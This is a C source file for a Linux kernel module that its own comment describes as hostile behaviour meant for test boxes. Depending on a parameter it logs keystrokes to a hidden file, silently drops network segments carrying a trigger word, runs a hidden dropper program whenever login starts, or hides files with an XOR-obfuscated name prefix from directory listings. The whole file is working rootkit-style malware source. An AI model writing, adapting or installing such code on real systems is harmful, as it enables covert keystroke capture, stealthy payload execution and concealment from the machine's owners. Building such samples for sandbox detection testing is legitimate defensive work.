// SPDX-License-Identifier: GPL-2.0
/* Hostile behaviour that shows only when somebody logs in, types or sends, one a value of `what`. For boxes only. */
#include <linux/fs.h>
#include <linux/ip.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/tcp.h>
#include <linux/umh.h>
#include <linux/workqueue.h>
#include <net/ip.h>
#include <net/net_namespace.h>

static char *what = "";
module_param(what, charp, 0);

static char typed[64];
static unsigned int count;

/* Keys are kept, and written to a file at the end of a line. */
static void keep(struct work_struct *work)
{
	struct file *file = filp_open("/tmp/.typed", O_CREAT | O_WRONLY | O_APPEND, 0600);
	loff_t at = 0;

	if (IS_ERR(file))
		return;
	kernel_write(file, typed, count, &at);
	filp_close(file, NULL);
	count = 0;
}

static DECLARE_WORK(keeping, keep);

static int key(struct notifier_block *block, unsigned long code, void *data)
{
	struct keyboard_notifier_param *param = data;

	if (code != KBD_KEYSYM || !param->down)
		return NOTIFY_OK;
	if (count < sizeof(typed))
		typed[count++] = param->value;
	if ((param->value & 0xff) == 1 || count == sizeof(typed)) /* enter */
		schedule_work(&keeping);
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = key };

/* A segment with the right word in it is seen by nobody else. */
static const char word[] = "openstream";

static unsigned int segment(void *data, struct sk_buff *skb, const struct nf_hook_state *state)
{
	char text[sizeof(word) - 1];
	struct tcphdr header;
	int at = ip_hdrlen(skb);

	if (ip_hdr(skb)->protocol != IPPROTO_TCP || skb_copy_bits(skb, at, &header, sizeof(header)))
		return NF_ACCEPT;
	if (skb_copy_bits(skb, at + header.doff * 4, text, sizeof(text)) || memcmp(text, word, sizeof(text)))
		return NF_ACCEPT;
	return NF_DROP;
}

static const struct nf_hook_ops hook = { .hook = segment, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_IN };

/* Whoever logs in starts another program, too. */
static void start(struct work_struct *work)
{
	static char *argv[] = { "/tmp/.dropper", NULL };
	static char *environment[] = { "PATH=/bin", NULL };

	call_usermodehelper(argv[0], argv, environment, UMH_NO_WAIT);
}

static DECLARE_WORK(starting, start);

static int before_execve(struct kprobe *probe, struct pt_regs *regs)
{
	if (!strcmp(current->comm, "login"))
		schedule_work(&starting);
	return 0;
}

static struct kprobe on_execve = { .symbol_name = "__x64_sys_execve", .pre_handler = before_execve };

/* Names that begin so are in no listing; the beginning is in no file. */
static char hidden[] = { 's' ^ 0x55, 'n' ^ 0x55, 'e' ^ 0x55, 'a' ^ 0x55, 'k' ^ 0x55, 'y' ^ 0x55, 0 };

static noinline bool taken(void)
{
	return true;
}

static int before_filldir(struct kprobe *probe, struct pt_regs *regs)
{
	if (regs->dx < 6 || strncmp((char *)regs->si, hidden, 6))
		return 0;
	regs->ip = (unsigned long)taken;
	return 1;
}

static struct kprobe on_filldir = { .symbol_name = "filldir64", .pre_handler = before_filldir };

static int __init waiter_init(void)
{
	int n;

	if (!strcmp(what, "logger"))
		return register_keyboard_notifier(&keys);
	if (!strcmp(what, "stream"))
		return nf_register_net_hook(&init_net, &hook);
	if (!strcmp(what, "login"))
		return register_kprobe(&on_execve);
	if (strcmp(what, "packed"))
		return 0;
	for (n = 0; n < 6; n++)
		hidden[n] ^= 0x55;
	return register_kprobe(&on_filldir);
}

static void __exit waiter_exit(void)
{
	if (!strcmp(what, "logger"))
		unregister_keyboard_notifier(&keys);
	if (!strcmp(what, "stream"))
		nf_unregister_net_hook(&init_net, &hook);
	if (!strcmp(what, "login"))
		unregister_kprobe(&on_execve);
	if (!strcmp(what, "packed"))
		unregister_kprobe(&on_filldir);
	cancel_work_sync(&keeping);
	cancel_work_sync(&starting);
}

module_init(waiter_init);
module_exit(waiter_exit);
MODULE_LICENSE("GPL");
